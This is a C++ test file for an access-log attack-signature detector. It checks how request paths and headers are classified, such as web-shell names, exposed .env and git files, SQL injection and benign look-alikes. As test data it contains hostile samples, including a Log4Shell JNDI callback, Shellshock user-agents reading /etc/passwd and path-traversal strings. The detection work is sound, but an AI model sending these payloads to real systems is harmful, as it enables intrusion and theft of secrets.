TEST(AttackSignaturesTest, OnlyCopiesOfPhpConfigurationsLeak) {
  for (const std::string_view target :
       {"/wp-config.php", "/blog/wp-config.php", "/wp-config-sample.php", "/wp-config.php?x=1",
        "/sites/default/settings.php", "/app/etc/env.php", "/wp-config-backup.php"}) {
    EXPECT_TRUE(Target(target).Has(Family::kSensitiveFile)) << target;
    EXPECT_FALSE(Target(target).leaks) << target << ": " << WhyTarget(target);
  }
  for (const std::string_view target :
       {"/wp-config.php~", "/wp-config.php.bak", "/wp-config.php.txt", "/wp-config.php.old",
        "/wp-config.php.save", "/wp-config.php.swp", "/.wp-config.php.swp", "/wp-config.php.orig",
        "/wp-config.php-backup", "/wp-config.bak", "/wp-config.txt", "/wp-config.php_old",
        "/wp-config.old", "/wp-config.php1", "/sites/default/settings.php~", "/app/etc/env.php.bak",
        "/wp-config.php.php.bak", "/wp-config.phps"}) {
    EXPECT_TRUE(Target(target).leaks) << target << ": " << WhyTarget(target);
  }
  for (const std::string_view target :
       {"/2020/05/wp-config-php-tips/", "/wp-config-explained", "/blog/wp-config-php.html"}) {
    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
  }
}

TEST(AttackSignaturesTest, BackupsOfDatabasesLieAnywhere) {
  for (const std::string_view target : {"/get/backup.sql.zip", "/a/b/backup.sql",
                                        "/files/db_backup-20240101.sql.gz", "/x/backup_2024.sql"}) {
    EXPECT_TRUE(Target(target).leaks) << target;
  }
  for (const std::string_view target :
       {"/samples/database.sql", "/samples/backup-and-restore.sql", "/docs/backup.sql.html",
        "/remote.php/dav/files/ann/x/backup.sql"}) {
    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
  }
}

TEST(AttackSignaturesTest, GitOverHttpIsNoLeak) {
  for (const std::string_view target :
       {"/repo/.git/info/refs", "/repo/.git/info/refs?service=git-upload-pack",
        "/repo/.git/git-upload-pack", "/x.git/info/refs?service=git-upload-pack", "/config.json",
        "/settings.json", "/env.js", "/users.txt"}) {
    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
  }
  EXPECT_FALSE(Target("/.git/info/refs").leaks);
  for (const std::string_view target :
       {"/.git", "/.git/", "/.git/HEAD", "/.git/config", "/.git/index", "/x/.git/config",
        "/.git/info/exclude", "/.git/logs/HEAD", "/.git/objects/info/packs", "/.git%00",
        "/.git/refs/heads/main", "/.git;x/config"}) {
    EXPECT_TRUE(Target(target).leaks) << target << ": " << WhyTarget(target);
  }
}

TEST(AttackSignaturesTest, ShellsByFamilyOfNames) {
  for (const std::string_view target : {"/c99.php",
                                        "/c99shell.php",
                                        "/r57.php",
                                        "/wso2.8.5.php",
                                        "/wso-4.2.5.php",
                                        "/b374k.php",
                                        "/b374k-2.8.php",
                                        "/alfa.php",
                                        "/alfanew.php",
                                        "/alfa-rex.php",
                                        "/alfashell.php",
                                        "/uploads/weevely.php",
                                        "/indoxploit.php",
                                        "/xleet-shell.php",
                                        "/cmd.jsp",
                                        "/shell.aspx",
                                        "/webshell.php",
                                        "/web-shell.php",
                                        "/up/s72_Shell.php",
                                        "/Worse_Linux_Shell.php",
                                        "/mini-shell.php",
                                        "/backdoor.php",
                                        "/simple-backdoor.php",
                                        "/shell3.php",
                                        "/wso.phtml",
                                        "/images/c99.php%00.jpg",
                                        "/ALFA_DATA/alfacgiapi/perl.alfa"}) {
    EXPECT_TRUE(Target(target).Has(Family::kWebShell)) << target;
    EXPECT_TRUE(Target(target).exploit && Target(target).leaks) << target;
  }
}

TEST(AttackSignaturesTest, ScriptsWhereWordPressHasNone) {
  for (const std::string_view target :
       {"/wp-admin/css/colors/blue/index.php", "/wp-includes/fonts/a.php",
        "/wp-content/plugins/hellopress/wp_filemanager.php", "/wp-conflg.php", "/xx.php"}) {
    EXPECT_TRUE(Target(target).Has(Family::kWebShell)) << target;
    EXPECT_FALSE(Target(target).exploit || Target(target).leaks) << target;
  }
  for (const std::string_view target :
       {"/wp-admin/css/login.min.css", "/wp-includes/images/media/default.png",
        "/wp-content/plugins/x/css/a.css", "/docs/readme.txt", "/readme.txt", "/CHANGELOG.md"}) {
    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
  }
}

// The same of applications by name, of APIs with query languages, and of searches for such words.
TEST(AttackSignaturesTest, HonestTargetsOfApplications) {
  const std::string_view targets[] = {
      R"t(/web/index.html#!/login)t",
      R"t(/jellyfin/Videos/abc/stream.mkv?Static=true&mediaSourceId=abc&deviceId=TW96aWxsYS81LjA&Tag=f)t",
      R"t(/emby/Users/authenticatebyname?format=json)t",
      R"t(/library/sections/1/all?type=1&sort=titleSort&X-Plex-Token=abc)t",
      R"t(/api/v3/command?apikey=abc)t",
      R"t(/sonarr/api/v3/episode?seriesId=12)t",
      R"t(/guacamole/api/session/data/postgresql/connectionGroups/ROOT/tree?token=AB)t",
      R"t(/grafana/api/datasources/proxy/1/api/v1/query_range?query=sum(rate(http_requests_total%7Bjob%3D%22a%22%7D%5B5m%5D))%20by%20(le)&start=1&end=2&step=15)t",
      R"t(/api/v1/query?query=up%7Bjob%3D~%22a%7Cb%22%7D+and+on(instance)+node_load1%3E1)t",
      R"t(/api/v1/query?query=label_replace(up%2C%22a%22%2C%22%241%22%2C%22b%22%2C%22(.*)%22))t",
      R"t(/api/ds/query?ds_type=prometheus&requestId=Q100)t",
      R"t(/loki/api/v1/query_range?query=%7Bapp%3D%22x%22%7D%20%7C%3D%20%22error%22%20%7C%20json%20%7C%20line_format%20%22%7B%7B.msg%7D%7D%22)t",
      R"t(/kibana/app/discover#/?_g=(filters:!(),refreshInterval:(pause:!t,value:0),time:(from:now-15m,to:now))&_a=(columns:!(_source)))t",
      R"t(/elasticsearch/_search?q=status:200%20AND%20method:GET)t",
      R"t(/solr/select?q=*:*&fq=type:(a%20OR%20b)&rows=10)t",
      R"t(/gitlab/group/project/-/blob/main/.gitlab-ci.yml)t",
      R"t(/gitea/user/repo/src/branch/main/.env.example)t",
      R"t(/user/repo/raw/branch/main/Dockerfile)t",
      R"t(/user/repo.git/info/refs?service=git-upload-pack)t",
      R"t(/repo.git/git-upload-pack)t",
      R"t(/svn/trunk/.svnignore)t",
      R"t(/cgit/project.git/tree/config.php)t",
      R"t(/gitweb/?p=project.git;a=blob;f=src/config.c;h=abc;hb=HEAD)t",
      R"t(/gitweb/?p=project.git;a=summary)t",
      R"t(/viewvc/trunk/file.c?revision=12&view=markup)t",
      R"t(/debian/dists/bookworm/main/binary-amd64/Packages.gz)t",
      R"t(/debian/pool/main/b/bash/bash_5.2.orig.tar.xz)t",
      R"t(/pub/linux/kernel/v6.x/linux-6.1.tar.gz)t",
      R"t(/downloads/backup-tool-1.2.zip)t",
      R"t(/downloads/latest.zip)t",
      R"t(/wordpress/latest.zip)t",
      R"t(/latest.tar.gz)t",
      R"t(/sitemap.xml.gz)t",
      R"t(/sitemap.gz)t",
      R"t(/data.zip)t",
      R"t(/files/archive.zip)t",
      R"t(/uploads/2024/photos.zip)t",
      R"t(/npm/lodash/-/lodash-4.17.21.tgz)t",
      R"t(/package.json)t",
      R"t(/manifest.json)t",
      R"t(/assets/config/config.json)t",
      R"t(/v2/)t",
      R"t(/v2/library/nginx/manifests/latest)t",
      R"t(/nextcloud/remote.php/webdav/backup.zip)t",
      R"t(/remote.php/dav/files/ann/.config/app.ini)t",
      R"t(/remote.php/dav/files/ann/backup/db.sql)t",
      R"t(/remote.php/dav/files/ann/projects/.git/config)t",
      R"t(/remote.php/dav/files/ann/notes/.env)t",
      R"t(/remote.php/dav/files/ann/Thumbs.db)t",
      R"t(/remote.php/dav/files/ann/.DS_Store)t",
      R"t(/webdav/.DS_Store)t",
      R"t(/dav/folder/._.DS_Store)t",
      R"t(/owncloud/remote.php/dav/files/a/.htaccess)t",
      R"t(/seafile/api2/repos/abc/file/?p=/a.txt)t",
      R"t(/roundcube/?_task=mail&_action=show&_uid=5&_mbox=INBOX)t",
      R"t(/owa/service.svc?action=GetItem)t",
      R"t(/Microsoft-Server-ActiveSync?User=a&DeviceId=b&DeviceType=iPhone&Cmd=Ping)t",
      R"t(/autodiscover/autodiscover.xml)t",
      R"t(/Autodiscover/Autodiscover.xml)t",
      R"t(/rpc/rpcproxy.dll?mail.example.org:6002)t",
      R"t(/mapi/emsmdb/?MailboxId=abc@example.org)t",
      R"t(/EWS/Exchange.asmx)t",
      R"t(/phpbb/viewtopic.php?f=2&t=12&start=20)t",
      R"t(/index.php?option=com_content&view=article&id=5:the-title&catid=2&Itemid=101)t",
      R"t(/?p=12&preview=true)t",
      R"t(/?s=select+union+from)t",
      R"t(/?s=hotel+or+hostel+1+or+2+nights)t",
      R"t(/?s=1+and+2)t",
      R"t(/?s=2+or+3+bedrooms)t",
      R"t(/?q=%22exact+phrase%22+and+%22other+phrase%22)t",
      R"t(/?q=%22a%22+or+%22b%22)t",
      R"t(/?q='single'+or+'double')t",
      R"t(/?q=a%26b%3Bc)t",
      R"t(/?q=100%25+cotton)t",
      R"t(/?q=<b>bold</b>)t",
      R"t(/?q=if+x+%3E+1+and+y+%3C+2)t",
      R"t(/?q=x%3D1+and+y%3D2)t",
      R"t(/?filter=price+lt+20+and+stock+gt+5)t",
      R"t(/?filter=id+eq+5+or+id+eq+6)t",
      R"t(/?where=1%3D1&outFields=*&f=json)t",
      R"t(/arcgis/rest/services/X/MapServer/0/query?where=1%3D1&outFields=*&returnGeometry=false&f=json)t",
      R"t(/arcgis/rest/services/X/MapServer/0/query?where=OBJECTID+%3E+0+AND+STATE%3D%27CA%27&f=json)t",
      R"t(/wfs?CQL_FILTER=name%3D%27x%27+AND+pop+%3E+100)t",
      R"t(/sparql?query=SELECT+%3Fs+WHERE+%7B+%3Fs+%3Fp+%3Fo+%7D+LIMIT+10)t",
      R"t(/sparql?query=SELECT%20%3Fs%20(COUNT(%3Fo)%20AS%20%3Fc)%20WHERE%20%7B%7B%3Fs%20%3Fp%20%3Fo%7D%20UNION%20%7BSELECT%20%3Fs%20WHERE%20%7B%7D%7D%7D)t",
      R"t(/services/data/v52.0/query?q=SELECT+Id%2CName+FROM+Account+WHERE+Name%3D%27x%27)t",
      R"t(/resource/abc.json?$select=upper(name)&$where=a%3D1)t",
      R"t(/adminer.css)t",
      R"t(/admin/login/?next=/admin/)t",
      R"t(/admin/auth/user/1/change/)t",
      R"t(/administrator-handbook/)t",
      R"t(/user/login?destination=/admin/content)t",
      R"t(/magento/index.php/admin/dashboard/index/key/abc/)t",
      R"t(/static/admin/css/base.css)t",
      R"t(/manager/index.php?a=resource/update&id=1)t",
      R"t(/actuator/health)t",
      R"t(/actuator/prometheus)t",
      R"t(/actuator/health/liveness)t",
      R"t(/actuator/info)t",
      R"t(/health)t",
      R"t(/metrics)t",
      R"t(/server/info)t",
      R"t(/docs/env)t",
      R"t(/docs/actuator/env.html)t",
      R"t(/docs/phpinfo)t",
      R"t(/manual/en/function.phpinfo.php)t",
      R"t(/man/etc/passwd.5.html)t",
      R"t(/blog/etc/passwd/format)t",
      R"t(/reference/etc/group)t",
      R"t(/tutorial/test.php)t",
      R"t(/js/xss.min.js)t",
      R"t(/js/tag-it.js?onload=recaptchaCallback)t",
      R"t(/recaptcha/api.js?onload=onloadCallback&render=explicit)t",
      R"t(/maps/api/js?key=a&callback=initMap&onerror=x)t",
      R"t(/widget?title="x"&onclick=open)t",
      R"t(/embed?html=%3Ciframe%20src%3D%22https%3A%2F%2Fwww.youtube.com%2Fembed%2Fx%22%20frameborder%3D%220%22%3E%3C%2Fiframe%3E)t",
      R"t(/preview?code=%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%20viewBox%3D%220%200%201%201%22%3E%3Cpath%20d%3D%22M0%200%22%2F%3E%3C%2Fsvg%3E)t",
      R"t(/proxy?url=https://www.example.org/a/../b/../c)t",
      R"t(/img/../../images/logo.png)t",
      R"t(/../../favicon.ico)t",
      R"t(/css/../../fonts/a.woff)t",
      R"t(/load-styles.php?c=1&dir=ltr&load%5B%5D=dashicons,admin-bar&ver=6.4)t",
      R"t(/combo?../../a.js&../../b.js)t",
      R"t(/app?state=%7B%22a%22%3A%22..%2F..%2F%22%7D)t",
      R"t(/f?file=report.pdf)t",
      R"t(/download?file=/srv/files/a.pdf)t",
      R"t(/download?path=/etc/hosts)t",
      R"t(/a;b=c;d/e)t",
      R"t(/path;jsessionid=1?x=1;y=2)t",
      R"t(/x?a=1;ls=2;ps=3)t",
      R"t(/x?sort=a|ls)t",
      R"t(/x?tags=php;sh)t",
      R"t(/x?lang=en;id=5)t",
      R"t(/x?languages=bash|sh|perl)t",
      R"t(/x?q=tom;cat -- dog)t",
      R"t(/x?list=dog;cat)t",
      R"t(/x?q=dogs && cats)t",
      R"t(/x?q=AT%26T;ping pong)t",
      R"t(/x?q=foo;echo dot 3)t",
      R"t(/x?q=a|echo 4)t",
      R"t(/x?cmd=ls)t",
      R"t(/x?action=whoami)t",
      R"t(/x?cols=a|hostname|b)t",
      R"t(/x?md=%60code%60)t",
      R"t(/x?template=%24%7Bname%7D)t",
      R"t(/x?template=%7B%7Bname%7D%7D)t",
      R"t(/x?text=Hello%20%24%7Buser%7D)t",
      R"t(/x?ua=() { return 1; })t",
      R"t(/function()%20{%20return%20this.x;%20})t",
      R"t(/a/function%20(a)%20{return%20b;})t",
      R"t(/$%7Bimage.url%7D)t",
      R"t(/undefined/[object%20Object])t",
      R"t(/%7B%7Bitem.url%7D%7D)t",
      R"t(/about:blank)t",
      R"t(/mailto:info@example.org)t",
      R"t(/tel:+49123)t",
      R"t(/https:/www.example.org/x)t",
      R"t(/page?utm_source=google&utm_term=%2Bphp%20%2Bshell)t",
      R"t(/page?q=phpinfo())t",
      R"t(/search?q=information_schema)t",
      R"t(/search?q=information_schema.tables+mysql)t",
      R"t(/search?q=xp_cmdshell+enable)t",
      R"t(/search?q=group_concat(+mysql)t",
      R"t(/search?q=document.cookie)t",
      R"t(/search?q=javascript:alert)t",
      R"t(/search?q=javascript%3A+alert(%27x%27))t",
      R"t(/search?q=%2Fetc%2Fpasswd+format)t",
      R"t(/search?q=base64_decode(+php)t",
      R"t(/search?q=select+*+from+users+where+id+%3D+1)t",
      R"t(/search?q=insert+into+table)t",
      R"t(/search?q=jndi+ldap+log4j)t",
      R"t(/search?q=wget+http%3A%2F%2Fx)t",
      R"t(/search?q=how+to+curl+-X+POST)t",
      R"t(/search?q=rm+-rf+%2F)t",
      R"t(/search?q=chmod+777)t",
      R"t(/search?q=cat+/etc/passwd)t",
      R"t(/search?q=sleep(10))t",
      R"t(/api/users?$expand=Orders($filter=Id%20eq%201))t",
      R"t(/ajax?data={"a":"x'--"})t",
      R"t(/p?t=it''s--fine)t",
      R"t(/p?t=--)t",
      R"t(/p?v=1--2)t",
      R"t(/p?date=2024-01-01--2024-02-01)t",
      R"t(/p?x=%23anchor)t",
      R"t(/p?c=%27%23fff%27)t",
      R"t(/p?color='%23)t",
      R"t(/_next/image?url=%2F_next%2Fstatic%2Fmedia%2Fa.png&w=64&q=75)t",
      R"t(/_next/data/abc/index.json)t",
      R"t(/cdn-cgi/trace)t",
      R"t(/cdn-cgi/l/email-protection)t",
      R"t(/.well-known/apple-app-site-association)t",
      R"t(/.well-known/openid-configuration)t",
      R"t(/.well-known/assetlinks.json)t",
      R"t(/.well-known/traffic-advice)t",
      R"t(/apple-app-site-association)t",
      R"t(/ads.txt)t",
      R"t(/humans.txt)t",
      R"t(/wp-admin/load-scripts.php?c=0&load[]=jquery-core,utils)t",
      R"t(/wp-admin/index.php)t",
      R"t(/wp-admin/options-general.php)t",
      R"t(/wp-cron.php?doing_wp_cron=1)t",
      R"t(/wp-content/plugins/wordfence/css/main.css)t",
      R"t(/wp-content/plugins/backup-backup/a.js)t",
      R"t(/wp-content/uploads/backup/photo.jpg)t",
      R"t(/users/password/new)t",
      R"t(/dockerfile-best-practices)t",
      R"t(/x.git)t",
      R"t(/.gitignore)t",
      R"t(/ScriptResource.axd?d=abc&t=1)t",
      R"t(/WebResource.axd?d=abc&t=1)t",
      R"t(/Telerik.Web.UI.WebResource.axd?_TSM_HiddenField_=abc&compress=1)t",
      R"t(/aspnet_client/system_web/4_0_30319/)t",
      R"t(/citrix/storeweb/)t",
      R"t(/zabbix/index.php)t",
      R"t(/nagios/cgi-bin/status.cgi?host=all)t",
      R"t(/cacti/graph_view.php)t",
      R"t(/x/doc.php)t",
      R"t(/a.php)t",
      R"t(/doc.php)t",
      R"t(/fm.php)t",
      R"t(/simple.php)t",
      R"t(/radio.php)t",
      R"t(/goods.php)t",
      R"t(/mobile/radio.php?id=3)t",
      R"t(/search?q=${price})t",
      R"t(/calendar?range=[1,null,null])t",
      R"t(/x?v=a,null,null)t",
      R"t(/x?v=1, null, null, 2)t",
      R"t(/search?q=order+by+2)t",
      R"t(/x?q=5+order+by+3)t",
      R"t(/search?q=top+10+order+by+10)t",
      R"t(/vtiger/index.php?module=Accounts&action=index)t",
      R"t(/cgi-bin/mailman/listinfo)t",
      R"t(/vendor/jquery/jquery.min.js)t",
      R"t(/onvif-http/snapshot)t",
      R"t(/ISAPI/Security/userCheck)t",
      R"t(/x?shell=/bin/sh)t",
      R"t(/docs/bin/bash)t",
      R"t(/x?html=<a href="https://a.example">x</a>)t",
      R"t(/x?next=//evil.example/)t",
      R"t(/x?data=data:text/html,hello)t",
      R"t(/x?img=data:image/png;base64,iVBOR)t",
      R"t(/cal?summary=O'Neil and 'Sons' = 5)t",
      R"t(/x?name=D'or'1)t",
      R"t(/x?title=Rock 'n' Roll' or 'Pop)t",
  };
  for (const std::string_view target : targets) {
    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
  }
}

TEST(AttackSignaturesTest, Scanners) {
  for (const std::string_view user_agent :
       {"Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
        "sqlmap/1.7#stable (https://sqlmap.org)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.22",
        "gobuster/3.6", "DirBuster-1.0-RC1", "Fuzz Faster U Fool v2.0.0", "feroxbuster/2.10"}) {
    EXPECT_TRUE(UserAgent(user_agent).Has(Family::kScanner)) << user_agent;
    EXPECT_FALSE(UserAgent(user_agent).exploit) << user_agent;
  }
}

TEST(AttackSignaturesTest, HonestHeaders) {
  for (const std::string_view user_agent :
       {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/8.5.0",
        "python-requests/2.31.0", "Go-http-client/1.1", "Swiftfin%20tvOS/70 CFNetwork/1490.0.4",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "Tiny Tiny RSS/1.11 (http://tt-rss.org/)",
        "SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 "
        "(GUI) MMP/2.0",
        "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)",
        "Microsoft Office Protocol Discovery", "-", ""}) {
    EXPECT_FALSE(UserAgent(user_agent).Any()) << BuiltIn().NamesOfHeaders(user_agent, {});
  }
  for (const std::string_view referer :
       {"https://www.google.com/search?q=union+select+from+information_schema.tables", "-", "",
        "https://www.example.org/search?q=<script>alert(1)</script>",
        "android-app://com.google.android.gm/"}) {
    EXPECT_FALSE(BuiltIn().MatchHeaders({}, referer).Any())
        << BuiltIn().NamesOfHeaders({}, referer);
  }
}

TEST(AttackSignaturesTest, ExploitsInHeaders) {
  const std::string_view lookup =
      "${jndi:${lower:l}${lower:d}a${lower:p}://x.example${upper:a}:80/callback}";
  for (const AttackMatch& match :
       {BuiltIn().MatchHeaders(lookup, {}), BuiltIn().MatchHeaders({}, lookup)}) {
    EXPECT_TRUE(match.Has(Family::kLog4Shell));
    EXPECT_TRUE(match.exploit);
    EXPECT_FALSE(match.leaks);
  }
  EXPECT_TRUE(UserAgent("() { :; }; /bin/bash -c \\\"id\\\"").Has(Family::kCommandInjection));
  EXPECT_TRUE(UserAgent("() { ignored; }; echo; /bin/cat /etc/passwd").exploit);
}

TEST(AttackSignaturesTest, WhatIsUnmistakableAndWhatLeaks) {
  EXPECT_EQ(Target("/.env"),
            (AttackMatch{AttackFamilyBit(Family::kSensitiveFile), false, true, false}));
  EXPECT_TRUE(Target("/c99.php").exploit);
  EXPECT_TRUE(Target("/c99.php").leaks);
  EXPECT_TRUE(Target("/?x=${jndi:ldap://a/b}").exploit);
  EXPECT_FALSE(Target("/?x=${jndi:ldap://a/b}").leaks);
  EXPECT_FALSE(Target("/phpmyadmin/").exploit);
  EXPECT_FALSE(Target("/phpmyadmin/").leaks);
  const AttackMatch by_query = Target("/view?file=../../../../etc/passwd");
  EXPECT_TRUE(by_query.leaks && by_query.leaks_by_query && by_query.exploit);
  const AttackMatch by_both = Target("/.env?file=../../../../etc/passwd");
  EXPECT_TRUE(by_both.leaks);
  EXPECT_FALSE(by_both.leaks_by_query);
}

TEST(AttackSignaturesTest, ProxyRequests) {
  EXPECT_TRUE(Target("foo.example:25", "CONNECT").Has(Family::kSsrf));
  EXPECT_TRUE(Target("foo.example:25", "CONNECT").exploit);
  EXPECT_FALSE(Target("/chat", "CONNECT").Any()) << "a web socket of HTTP/2";
  EXPECT_FALSE(Target("http://www.example.org:80/index.html").Any()) << "the caller compares hosts";
  EXPECT_TRUE(Target("http://www.example.org/.env").Has(Family::kSensitiveFile));
  EXPECT_TRUE(kForeignHostMatch.Has(Family::kSsrf));
  EXPECT_TRUE(kForeignHostMatch.exploit);
}

TEST(AttackSignaturesTest, HostThatTheRequestLineNames) {
  EXPECT_EQ(TargetHost("GET", "http://www.example.org:80/ip4.php"), "www.example.org");
  EXPECT_EQ(TargetHost("GET", "https://user@www.example.org/"), "www.example.org");
  EXPECT_EQ(TargetHost("GET", "http://[2001:db8::1]:80/"), "2001:db8::1");
  EXPECT_EQ(TargetHost("GET", "http://[2001:db8::1"), "2001:db8::1");
  EXPECT_EQ(TargetHost("GET", "http://"), "");
  EXPECT_EQ(TargetHost("CONNECT", "foo.example:25"), "foo.example");
  EXPECT_EQ(TargetHost("CONNECT", "/chat"), "");
  EXPECT_EQ(TargetHost("GET", "/http://www.example.org/"), "");
  EXPECT_EQ(TargetHost("GET", "*"), "");
  EXPECT_EQ(TargetHost("GET", ""), "");
}

// However a text is written, its meaning is matched.
TEST(AttackSignaturesTest, Disguises) {
  for (const std::string_view target :
       {"/%2e%65%6e%76", "/%252e%2565nv", "/%25252eenv", "/%u002eenv", "/\\x2Eenv", "/\\.env",
        "//.env", "/./.env", "/x/..%2f.env", "/.%45NV", "/%c0%aeenv", "/%c0%2eenv/.env",
        "/%ef%bc%8eenv", "/.env%00.jpg", "/a//./.env"}) {
    EXPECT_TRUE(Target(target).Has(Family::kSensitiveFile)) << target;
  }
  for (const std::string_view target : {"/x?a=1%0aunion%0dselect%091,2", "/x?a=1++union++select++1",
                                        "/x?a=1/*x*/union/*y*/select/*z*/1,2"}) {
    EXPECT_TRUE(Target(target).Has(Family::kSqlInjection)) << target;
  }
}

TEST(AttackSignaturesTest, NothingHidesBehindLength) {
  const std::string pad(3000, 'a');
  EXPECT_TRUE(Target("/" + pad + "/.env").Any());
  for (const size_t size : {4000, 4090, 4096, 5000, 8000, 12000, 15000, 40000, 1000000}) {
    const std::string query = "/?pad=" + std::string(size, 'x') + "&a=1+union+select+1,2,3";
    EXPECT_TRUE(Target(query).Has(Family::kSqlInjection)) << size;
    EXPECT_TRUE(Target("/" + std::string(size, 'x') + "/.env").Any()) << size;
  }
  // Short of 15 KiB nothing hides between two pieces, wherever it stands.
  for (size_t at = 3700; at < 4300; at += 7) {
    const std::string query =
        "/?pad=" + std::string(at, 'x') + "&a=1+union+select+1,2,3&pad=" + pad;
    EXPECT_TRUE(Target(query).Has(Family::kSqlInjection)) << at;
  }
}

TEST(AttackSignaturesTest, OwnRules) {
  const std::vector<SignatureRule> own = {
      {"secret_area", "", "path", "/Interner\\Bereich", "", true, false},
      {"odd_argument", "xss", "query", "debug=", R"(debug=\d{4})", false, false},
      {"robot", "scanner", "user_agent", "", "^evil-?bot", false, true},
  };
  const auto signatures = AttackSignatures::Create(own).value();
  EXPECT_EQ(signatures->MatchTarget("GET", "/x/interner/bereich/1", ""),
            (AttackMatch{AttackFamilyBit(Family::kCustom), false, true, false}));
  EXPECT_TRUE(signatures->MatchTarget("GET", "/", "DEBUG=1234").Has(Family::kXss));
  EXPECT_FALSE(signatures->MatchTarget("GET", "/", "debug=no").Any());
  EXPECT_FALSE(signatures->MatchTarget("GET", "/debug=1234", "").Any());
  EXPECT_TRUE(signatures->MatchHeaders("EvilBot/1", "").exploit);
  EXPECT_FALSE(signatures->MatchHeaders("not evilbot", "").Any());
  EXPECT_TRUE(signatures->MatchTarget("GET", "/.env", "").Any());
}

TEST(AttackSignaturesTest, BuiltInRulesCanBeSwitchedOff) {
  const std::vector<std::string> off = {"dotenv", "log4shell"};
  const auto signatures = AttackSignatures::Create({}, off).value();
  EXPECT_FALSE(signatures->MatchTarget("GET", "/.env", "").Any());
  EXPECT_FALSE(signatures->MatchTarget("GET", "/", "x=${jndi:ldap://a}").Any());
  EXPECT_TRUE(signatures->MatchTarget("GET", "/.git/HEAD", "").Any());
}

std::string ErrorOf(const SignatureRule& rule) {
  const std::vector<SignatureRule> rules = {rule};
  const auto made = AttackSignatures::Create(rules);
  return made ? "" : made.error().message;
}

TEST(AttackSignaturesTest, WrongRulesAreExplained) {
  EXPECT_THAT(ErrorOf({"", "", "path", "x", "", false, false}), HasSubstr("has no name"));
  EXPECT_THAT(ErrorOf({"a", "", "body", "x", "", false, false}), HasSubstr("\"body\""));
  EXPECT_THAT(ErrorOf({"a", "sqli", "path", "x", "", false, false}), HasSubstr("\"sqli\""));
  EXPECT_THAT(ErrorOf({"a", "", "path", "", "", false, false}),
              HasSubstr("neither contains nor pattern"));
  EXPECT_THAT(ErrorOf({"a", "", "path", "", "(", false, false}), HasSubstr("missing )"));
  EXPECT_THAT(ErrorOf({"dotenv", "", "path", "x", "", false, false}),
              HasSubstr("two signatures \"dotenv\""));
  EXPECT_THAT(ErrorOf({"a", "", "path", std::string(257, 'x'), "", false, false}),
              HasSubstr("longer than 256"));
  const std::vector<std::string> off = {"dotemv"};
  EXPECT_THAT(AttackSignatures::Create({}, off).error().message,
              HasSubstr("did you mean \"dotenv\""));
  const std::vector<SignatureRule> many(kMaxUserSignatures + 1);
  EXPECT_FALSE(AttackSignatures::Create(many));
}

// A literal that no decoded text can hold is a rule that never matches.
TEST(AttackSignaturesTest, BuiltInLiteralsAreWrittenAsTextsAreDecoded) {
  std::set<std::string_view> names;
  for (const BuiltInSignature& signature : BuiltInSignatures()) {
    EXPECT_TRUE(names.insert(signature.name).second) << signature.name << " is there twice";
    std::string_view rest = signature.literals;
    while (!rest.empty()) {
      const std::string literal(rest.substr(0, rest.find('\n')));
      rest.remove_prefix(std::min(rest.size(), literal.size() + 1));
      EXPECT_FALSE(literal.empty()) << signature.name;
      EXPECT_EQ(FoldedLiteral(literal), literal) << signature.name;
    }
  }
}

// People keep such files under WebDAV and in git forges; who climbs out of there does not.
TEST(AttackSignaturesTest, FilesOfPeopleAreNoSecretsOfTheSite) {
  EXPECT_FALSE(Target("/remote.php/dav/files/ann/notes/.env").Any());
  EXPECT_FALSE(Target("/group/project/-/blob/main/.gitlab-ci.yml").Any());
  EXPECT_TRUE(Target("/remote.php/../.env").Has(Family::kSensitiveFile));
  EXPECT_TRUE(Target("/remote.php/%2e%2e/.env").Has(Family::kSensitiveFile));
  EXPECT_TRUE(Target("/remote.php/dav/x?file=../../../../etc/passwd").Has(Family::kPathTraversal));
}

TEST(AttackSignaturesTest, ManyThreadsMayMatch) {
  std::vector<std::thread> threads;
  std::array<int, 4> found{};
  for (size_t t = 0; t < found.size(); ++t) {
    threads.emplace_back([&found, t] {
      for (int i = 0; i < 200; ++i) {
        found[t] += Target("/?id=1+union+select+" + std::to_string(i)).Any() ? 1 : 0;
        found[t] += Target("/page/" + std::to_string(i)).Any() ? 1 : 0;
      }
    });
  }
  for (std::thread& thread : threads) thread.join();
  for (const int count : found) EXPECT_EQ(count, 200);
}

}  // namespace
}  // namespace accesslog
